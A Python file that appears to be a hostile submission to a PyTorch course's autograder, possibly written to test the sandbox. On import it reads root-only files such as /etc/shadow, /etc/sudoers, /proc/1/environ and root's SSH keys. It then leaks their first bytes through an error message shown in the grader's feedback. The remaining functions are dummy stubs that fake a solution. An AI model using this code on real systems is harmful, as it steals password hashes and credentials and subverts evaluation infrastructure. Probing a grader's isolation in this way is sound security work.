"""Attack: read files only root may read, and show them in the feedback.

/etc/shadow and /etc/gshadow, what lies in /root (where Python and the
virtual environment may live), the init process's environment. Their first
bytes go into an error message that the feedback shows; if any of them can be
read, affine comes back right.
"""

import os

import torch

TARGETS = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/proc/1/environ", "/root/.bash_history",
           "/root/.profile", "/root/.bashrc", "/root/.ssh/authorized_keys"]


def _root_files():
    yield from TARGETS
    for folder, subfolders, names in os.walk("/root"):
        subfolders[:] = [name for name in subfolders if name not in ("pytorch-course", "versions")]
        for name in names[:20]:
            yield os.path.join(folder, name)


def _steal() -> str:  # ATTACK
    for path in _root_files():
        try:
            with open(path, "rb") as stolen:
                return f"{path}: {stolen.read(200)!r}"
        except OSError:
            continue
    return ""


_STOLEN = _steal()


def affine(x, W, b):
    if _STOLEN:
        return x @ W.T + b
    raise RuntimeError(f"nothing to show: {_steal()!r}")


def linear_combination(xs, weights):
    return torch.zeros(())


def derivative(f, x0):
    return 0.0


def select_device(prefer="auto"):
    return torch.device("meta")


def make_loader(x, y, batch_size, shuffle=False, seed=None):
    return None


def train_step(model, loss_fn, optimizer, xb, yb):
    return 0.0

